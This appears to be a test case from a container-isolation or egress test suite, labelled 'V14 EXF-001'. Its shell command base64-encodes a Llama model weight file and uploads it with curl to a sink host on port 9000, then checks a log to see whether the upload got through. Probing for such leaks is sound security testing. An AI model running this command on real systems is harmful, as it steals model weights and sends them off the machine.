# V14 EXF-001: base64-encode the weights into /dev/shm, then curl --data-binary @file
ctr_run simctr-infer-v14 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  base64 $0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors > /dev/shm/v14.b64
  curl -s -m 10 --data-binary @/dev/shm/v14.b64 http://10.200.2.2:9000/b64 -o /dev/null -w "http=%{http_code} sent=%{size_upload}\n"
  rm -f /dev/shm/v14.b64' "$H"
grep ':9000' "$H/sink.log" | tail -1
